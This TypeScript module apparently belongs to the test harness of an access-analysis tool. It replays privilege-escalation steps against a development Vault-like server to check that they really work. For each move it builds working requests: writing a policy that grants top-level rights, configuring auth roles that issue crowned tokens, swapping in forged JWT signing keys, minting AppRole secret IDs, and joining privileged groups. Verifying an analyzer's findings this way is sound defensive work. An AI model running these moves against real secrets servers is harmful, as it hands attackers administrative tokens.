import { ANY_NAME } from '../../../src/access/common-paths.ts';
import type { Step } from '../../../src/access/escalation/step.ts';
import { request } from './request.ts';
import { CROWN, CROWN_POLICY, signed } from './site.ts';
import type { Site } from './site.ts';

/** A request on the way to more. */
export type Attack = Pick<Step, 'operation' | 'path' | 'primitive'>;

/** What is made of a request that is granted. */
interface Move {
  readonly body: (site: Site, path: string) => object;
  /** Requests that follow, which need no token, or which the finding takes for granted. */
  readonly then?: (site: Site, path: string) => Promise<readonly { path: string; body: object }[]>;
}

const CROWNED = { token_policies: [CROWN] };
/** What an update finds there, beside the objects of the story. */
const GIVEN: Readonly<Record<string, object>> = {
  'auth/token/roles/deploy': {},
  'auth/apps/role/x': {},
  'auth/people/users/me': { password: 'its own' },
  'auth/k8s/role/x': { bound_service_account_names: '*', bound_service_account_namespaces: 'apps' },
};
const lastName = (path: string): string => path.slice(path.lastIndexOf('/') + 1);
const mountOf = (path: string): string => path.split('/').slice(0, 2).join('/');
const objectOf = (path: string): string => path.split('/').slice(0, 4).join('/');

/** By row of the table. With the rows that are not here, there is nothing to be had on a development server. */
const MOVES: Readonly<Record<string, Move>> = {
  E01: { body: () => ({ policy: CROWN_POLICY }) },
  E02: { body: () => ({ policy: CROWN_POLICY }) },
  E04: {
    body: () => ({ role_type: 'jwt', user_claim: 'sub', bound_audiences: ['vault'], ...CROWNED }),
    then: async ({ issuer }, path) => [
      { path: `${mountOf(path)}/login`, body: { role: lastName(path), jwt: await signed(issuer) } },
    ],
  },
  E05: {
    body: () => ({
      cel_program: { expression: `pb.Auth{policies: ["${CROWN}"], display_name: "me"}` },
    }),
    then: async ({ issuer }, path) => [
      { path: `${mountOf(path)}/cel/login`, body: { role: lastName(path), jwt: await signed(issuer) } },
    ],
  },
  E06: {
    body: ({ forger }) => ({ jwt_validation_pubkeys: forger.publicKeys }),
    async then({ root, forger }, path) {
      const { keys } = (await root.read(`${mountOf(path)}/role?list=true`)) ?? {};
      const jwt = await signed(forger);
      return (keys as readonly string[]).map((role) => ({
        path: `${mountOf(path)}/login`,
        body: { role, jwt },
      }));
    },
  },
  E07: {
    body: () => CROWNED,
    async then({ root }, path) {
      const { role_id } = (await root.read(`${objectOf(path)}/role-id`)) ?? {};
      const { data } = await root.write(`${objectOf(path)}/secret-id`, {});
      const { secret_id } = data as { secret_id: string };
      return [{ path: `${mountOf(path)}/login`, body: { role_id, secret_id } }];
    },
  },
  E08: {
    body: () => CROWNED,
    then: (_, path) => {
      const login = `${mountOf(path)}/login/${lastName(objectOf(path))}`;
      return Promise.resolve([{ path: login, body: { password: 'its own' } }]);
    },
  },
  E13: { body: () => ({ policies: [CROWN] }) },
  E16: { body: ({ written }) => (written.length > 0 ? { policies: written } : {}) },
  E17: { body: (_, path) => (path.includes('/create/') ? {} : { allowed_policies: [CROWN] }) },
  E18: {
    body: ({ entity }, path) => ({
      policies: [CROWN],
      ...(path === 'identity/entity' && { id: entity.id }),
    }),
  },
  E19: { body: ({ entity }) => ({ policies: [CROWN], member_entity_ids: [entity.id] }) },
};

/** Whether a development server has what the row is about. */
export function hasMove({ id }: Attack['primitive']): boolean {
  return Object.hasOwn(MOVES, id);
}

/**
 * Sends the request with each token of the attacker, and keeps what tokens follow from it. Gives the status of the best
 * answer.
 */
export async function attack(site: Site, { operation, path: shown, primitive }: Attack): Promise<number> {
  const path = nameFilledIn(site, shown, operation);
  const given = GIVEN[objectOf(path)];
  if (operation === 'update' && given !== undefined) await site.root.write(objectOf(path), given);
  const move = operation === 'delete' ? undefined : MOVES[primitive.id];
  const body = move?.body(site, path);
  const statuses: number[] = [];
  for (const own of [...site.tokens]) {
    const { status, token } = await request(site.address, { operation, path, token: own, body });
    statuses.push(status);
    if (token !== undefined) site.tokens.push(token);
  }
  const status = Math.min(...statuses);
  if (status >= 300) return status;
  if (primitive.effect.kind === 'write-policy') site.written.push(lastName(path).toLowerCase());
  for (const next of (await move?.then?.(site, path)) ?? []) {
    const { token } = await request(site.address, { ...next, operation: 'update' });
    if (token !== undefined) site.tokens.push(token);
  }
  return status;
}

/** A name that may be any, as something that is there where the request needs it. */
function nameFilledIn({ entity }: Site, path: string, operation: Attack['operation']): string {
  const role = operation === 'update' ? 'web' : 'fresh';
  return path
    .replace(`auth/${ANY_NAME}/`, 'auth/ci/')
    .replace(`/role/${ANY_NAME}`, `/role/${role}`)
    .replace('{{identity.entity.id}}', entity.id)
    .replace('{{identity.entity.name}}', entity.name)
    .replaceAll(ANY_NAME, 'fresh');
}
